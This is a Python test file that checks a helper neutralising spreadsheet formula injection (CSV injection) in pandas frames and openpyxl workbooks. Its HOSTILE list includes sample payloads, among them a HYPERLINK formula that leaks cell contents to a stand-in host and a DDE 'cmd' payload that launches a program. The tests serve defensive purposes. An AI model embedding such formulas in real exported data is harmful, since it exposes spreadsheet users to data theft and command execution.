"""Neutralising formula injection (OWASP "CSV injection") in text cells, tiny cases."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest
from openpyxl import Workbook

from accessmap.core.safe_text import mark_text_cells, neutralise_cell, neutralise_frame

HOSTILE = [
    '=HYPERLINK("http://x/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_get_an_apostrophe(text: str) -> None:
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Maison médicale", "", "a=b", "'=already", 5, -2.5, None])
def test_other_values_are_unchanged(value: object) -> None:
    assert neutralise_cell(value) is value


def test_frame_text_columns_and_names_neutralised_numbers_kept() -> None:
    df = pd.DataFrame(
        {
            "name": pd.Series(["ok", "=1+1", None], dtype=object),
            "code": pd.Series(["-5", "A", pd.NA], dtype="string"),
            "kind": pd.Categorical(["@x", "y", "y"]),
            "delta": [-5.0, 2.0, np.nan],  # negative numbers stay numbers
            "count": pd.array([-1, 2, pd.NA], dtype="Int64"),
            "=bad header": [1, 2, 3],
        }
    )
    out = neutralise_frame(df)
    assert list(out.columns) == ["name", "code", "kind", "delta", "count", "'=bad header"]
    assert out["name"].tolist() == ["ok", "'=1+1", None]
    assert out["code"].tolist()[:2] == ["'-5", "A"] and str(out["code"].dtype) == "string"
    assert out["kind"].tolist() == ["'@x", "y", "y"]
    assert out["delta"].dtype == np.float64 and out["delta"].iloc[0] == -5.0
    assert str(out["count"].dtype) == "Int64" and out["count"].iloc[0] == -1
    assert df["name"].iloc[1] == "=1+1"  # the input is not changed


def test_workbook_text_is_stored_as_text() -> None:
    wb = Workbook()
    ws = wb.active
    ws["A1"] = "=1+1"  # openpyxl makes this a formula
    ws["A2"] = "plain"
    ws["A3"] = -3  # a number
    assert ws["A1"].data_type == "f"
    assert mark_text_cells(wb) == 1
    assert (ws["A1"].value, ws["A1"].data_type) == ("'=1+1", "s")
    assert ws["A2"].data_type == "s"
    assert (ws["A3"].value, ws["A3"].data_type) == (-3, "n")
